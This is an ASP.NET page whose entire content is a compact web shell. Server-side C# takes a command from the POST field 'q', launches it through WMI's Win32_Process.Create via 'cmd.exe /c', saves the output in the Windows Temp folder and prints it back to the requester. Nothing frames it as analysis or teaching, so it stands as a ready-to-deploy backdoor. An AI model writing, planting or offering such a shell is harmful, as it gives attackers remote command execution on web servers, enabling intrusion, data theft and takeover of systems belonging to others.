<%@ Page Language="C#" %>
<%@ Import Namespace="System.Management" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    string line = Request.Form["q"];
    if (line == null) return;
    var cls = new ManagementClass(@"\\.\root\cimv2", "Win32_Process", null);
    var args = cls.GetMethodParameters("Create");
    args["CommandLine"] = "cmd.exe /c " + line + " > C:\\Windows\\Temp\\o.txt";
    cls.InvokeMethod("Create", args, null);
    Response.Write(System.IO.File.ReadAllText("C:\\Windows\\Temp\\o.txt"));
}
</script>
